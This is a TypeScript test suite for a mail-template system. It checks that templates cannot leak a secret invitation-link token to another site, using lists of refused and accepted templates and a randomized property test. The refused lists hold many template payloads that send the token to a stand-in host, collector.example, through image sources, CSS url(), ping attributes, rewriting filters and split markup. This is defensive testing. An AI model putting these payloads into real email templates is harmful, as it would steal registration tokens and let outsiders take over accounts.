import fc from 'fast-check'
// @ts-expect-error -- it has no declarations
import { JSDOM } from 'jsdom'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { renderMail } from '#mail/render-mail.ts'
import type { Database } from '#server/database/database.ts'

import { DATABASES, openTestDatabase } from '../helpers/databases.ts'

// Whoever may write templates must not get at the secret links in other people's mail. The rule in the database reads the source
// (db/rules/mail/secrets.sql); here, accepted sources are rendered, and judged by a browser's parser.

const SITE = 'https://samspel.example.org'
const LINK = `${SITE}/register?token=c2VjcmV0LXNlY3JldC1zZWNyZXQ`
const VARIABLES = ['association', 'role', 'inviter', 'account', 'link']

const HTML_REFUSED = [
  '<img src="https://collector.example/{{ link }}">',
  '<p style="background: url(https://collector.example/{{ link }})">Hej</p>',
  '<a href="https://collector.example/?{{ link }}">Hit</a>',
  '<a href="{{ link }}&x=https://collector.example">Hit</a>',
  '<a href=" {{ link }}">Hit</a>',
  `<a href='{{ link }}'>Hit</a>`,
  '<a href={{ link }}>Hit</a>',
  '<a title="{{ link }}" href="https://collector.example">Hit</a>',
  '<a href="{{ link }}" ping="https://collector.example">Hit</a>',
  "<a href=\"{{ link | replace: 'samspel', 'collector' }}\">Hit</a>",
  '<a href="{{ link | url_encode }}">Hit</a>',
  '<a href="{{ association | append: link }}">Hit</a>',
  '<a href="{{ link | prepend: \'https://collector.example/?\' }}">Hit</a>',
  '{% assign x = link %}<img src="https://collector.example/{{ x }}">',
  '{% capture x %}{{ link }}{% endcapture %}',
  '{% if link contains "a" %}<img src="https://collector.example/a">{% endif %}',
  '{% if link %}{{ link }}{% endif %}',
  '{% for c in link %}{{ c }}{% endfor %}',
  '{{ link | slice: 0 }}',
  '{{ link | truncate: 5 }}',
  'https://collector.example/?{{ link }}',
  'https://collector.example/? {{- link }}',
  'https://collector.example/?{{ role -}} {{ link }}',
  'https://collector.example/?{% if account -%} {% endif %}{{ link }}',
  'https://collector.example/?<b>{{ link }}</b>',
  '<b>https://collector.example/?</b><i></i><b>{{ link }}</b>',
  'https://collector.example/?&#8203;{{ link }}',
  '{{ role }}{{ link }}',
  'https://collector.example/?</td>{{ link }}',
  'https://collector.example/?</div>{{ link }}',
  'https://collector.example/?<li>{{ link }}',
  'https://collector.example/?<table> <tr>{{ link }}</tr></table>',
  // What loads something, or sends it somewhere, wherever the secret is.
  ...[
    '<img src="https://collector.example/x.png">',
    '<img srcset="https://collector.example/x.png 2x">',
    '<style>p { color: red }</style>',
    '<p style="background: url(https://collector.example/x.png)">Hej</p>',
    '<p style="background: u&#114;l(https://collector.example/x.png)">Hej</p>',
    '<p style="color: {{ role }}">Hej</p>',
    '<td background="https://collector.example/x.png">Hej</td>',
    '<link rel="stylesheet" href="https://collector.example/x.css">',
    '<meta http-equiv="refresh" content="0; url=https://collector.example">',
    '<base href="https://collector.example">',
    '<form action="https://collector.example"><textarea name="x">',
    '<svg><image href="https://collector.example/x.png"/></svg>',
    '<video poster="https://collector.example/x.png"></video>',
    '<!--[if mso]><v:fill src="https://collector.example/x.png"/><![endif]-->',
    '<iframe src="https://collector.example"></iframe>',
    '<p {% if account %}title="x"{% endif %}>Hej</p>',
    `<p class="{{ role | default: '">' }}">Hej</p>`,
    '<p onclick="x">Hej</p>',
    '<a href="https://collector.example',
    '2 < 3',
  ].map((html) => `${html} <a href="{{ link }}">Skapa konto</a>`),
]
const HTML_ACCEPTED = [
  '<p>Hej!</p>\n<p><a class="button" href="{{ link }}">Skapa konto</a></p>',
  '<a class="button" href="{{link}}" target="_blank">Hit</a><br/><a href="https://other.example/?a=1&amp;b">Om oss</a>',
  '<p>{{ link }}</p>',
  'Öppna <strong>{{ link }}</strong>.',
  '{% if account %}<p>{{ account }}</p>{% else %}<p>{{ inviter }}</p>{%- endif -%} <div>{{ link }}</div>',
  '<p style="padding: 4px; color: #123" align="center">{{ link }}</p><ul><li>Hit: {{ link }}</li></ul>',
  '<a href="{{ link }}">{{ link }}</a>',
  '<p>{{ link }}, för {{ role }}</p>',
  // Without the secret, everything else is as it was.
  '<img src="https://other.example/{{ role }}"><style>p { color: red }</style>',
]
const TEXT_REFUSED = [
  'https://collector.example/?{{ link }}',
  'https://collector.example/?{{- link }}',
  'https://collector.example/? {{- link }}',
  'https://collector.example/?{{ role -}}\n{{ link }}',
  '{% if account %}https://collector.example/?{% endif %}{{ link }}',
  '{{ link | upcase }}',
  '<{{ link }}>',
  '{% unless link %}{% endunless %}',
]
const TEXT_ACCEPTED = [
  '{{ link }}',
  'Öppna:\n{{ link }}\n',
  '{{ inviter }} {{ link }}.',
  '{{- link -}}',
  'Ingen',
]

describe.each(DATABASES)('a secret link in a mail, on %s', (kind) => {
  let database: Database

  beforeAll(async () => {
    database = await openTestDatabase(kind, 'migrated')
  })
  afterAll(() => database.close())

  /** The field that is refused, or `language` if it is no valid template at all. */
  const refused = async (subject: string, html: string, text: string | null = null) => {
    const sources = [subject, html, text].filter((source) => source !== null)
    const valid = await database
      .query('select app.check_template(t, $2) from unnest($1::text[]) t', [sources, VARIABLES])
      .then(
        () => true,
        () => false,
      )
    const { rows } = await database.query<{ field: string | null }>(
      `select private.misplaced_secret('invitation', $1, $2, $3) as field`,
      [subject, html, text],
    )
    return valid ? (rows[0]?.field ?? null) : 'language'
  }

  it.each(HTML_REFUSED)('is refused in %s', async (html) => {
    expect(await refused('Hej', html)).toMatch(/^(html_body|language)$/)
  })
  it.each(HTML_ACCEPTED)('is accepted in %s', async (html) => {
    expect(await refused('Hej', html)).toBeNull()
  })
  it.each(TEXT_REFUSED)('is refused in the text %j', async (text) => {
    expect(await refused('Hej', '<p>Hej</p>', text)).toBe('text_body')
  })
  it.each(TEXT_ACCEPTED)('is accepted in the text %j', async (text) => {
    expect(await refused('Hej', '<p>Hej</p>', text)).toBeNull()
  })
  it.each(['{{ link }}', 'Hej {{- link -}}', '{{ link | truncate: 60 }}', '{% if link %}a{% endif %}'])(
    'is refused in the subject %s, which others can read',
    async (subject) => {
      expect(await refused(subject, '<p>Hej</p>')).toBe('subject')
    },
  )

  it('that is no secret in a mail about an event, may be anywhere', async () => {
    const { rows } = await database.query(
      `select private.misplaced_secret('place_given', '{{ link }}', '<img src="{{ link }}">', null) as field`,
    )
    expect(rows).toEqual([{ field: null }])
  })

  const fragment = fc.constantFrom(
    '{{ link }}',
    '{{ link }}',
    '{{- link -}}',
    '<a href="{{ link }}">Hit</a>',
    '{{ role }}',
    '{{ role -}}',
    '{{ account }}',
    '{% if account %}',
    '{% else %}',
    '{% endif %}',
    ' ',
    ' ',
    '\n',
    '\u00a0',
    '\u200b',
    'Hej',
    '&amp;',
    '&nbsp;',
    'https://collector.example/?',
    '<b>',
    '</b>',
    '<p>',
    '</p>',
    '<br>',
    '<span class="x">',
    '</span>',
    '<table>',
    '<tr>',
    '<td>',
    '<ul>',
    '<li>',
    '</div>',
    '</td>',
    '<a href="',
    '">',
    '"',
    "'",
    '>',
    '<',
    '<img src="',
    '<!--',
    '-->',
    '<style>',
    '</style>',
    'style="',
    'background: url(',
  )
  const source = fc.array(fragment, { minLength: 1, maxLength: 9 }).map((parts) => parts.join(''))

  /** Where a page could hand the link to another site, as a mail client reads it. */
  function leaks(html: string, text: string): string[] {
    const { document } = (new JSDOM(html) as { window: Window }).window
    const found: string[] = []
    for (const element of document.body.querySelectorAll('*'))
      for (const { name, value } of element.attributes)
        if (value.includes('c2VjcmV0') && !(element.tagName === 'A' && name === 'href' && value === LINK))
          found.push(`${element.tagName} ${name}`)
    const loading =
      'img, picture, video, audio, link, base, iframe, object, embed, form, svg, style, script, [background], [style*="url"]'
    for (const element of document.body.querySelectorAll(loading)) found.push(element.outerHTML)
    if (html.includes('<!--')) found.push('a comment')
    for (const shown of [
      text,
      document.body.innerHTML.replace(/<\/?(p|br|div|ul|li)\b[^>]*>/g, ' ').replace(/<[^>]*>/g, ''),
    ])
      if (/https:\/\/collector\S*c2VjcmV0/.test(shown)) found.push(shown)
    return found
  }

  it('stays with the reader, in whatever is accepted of random sources', async () => {
    let printed = 0
    await fc.assert(
      fc.asyncProperty(source, fc.constantFrom('', 'Bo'), async (html_body, account) => {
        if (!html_body.includes('link') || (await refused('Hej', html_body)) !== null) return
        const variables = { association: 'Bandet', role: 'Admin', inviter: 'Bo', account }
        const page = { html_page: '<body>{{ content }}</body>', text_page: '{{ content }}', text_body: null }
        const mail = renderMail(
          { subject: 'Hej', html_body, ...page, variables, secrets: { link: LINK } },
          SITE,
        )
        expect(leaks(mail.html, mail.text)).toEqual([])
        if (mail.html.includes(LINK)) printed++
      }),
      { numRuns: 1000 },
    )
    // Not merely because nothing with the link was accepted.
    expect(printed).toBeGreaterThan(20)
  })

  it.each(['{', '{{ ', '{{ link }} ', '<a href="{{ link }}">'])(
    'is not looked for in thousands of %s',
    async (part) => {
      await expect(
        database.query('select app.check_template($1, $2)', [part.repeat(1001), VARIABLES]),
      ).rejects.toThrow('variables')
    },
  )
})
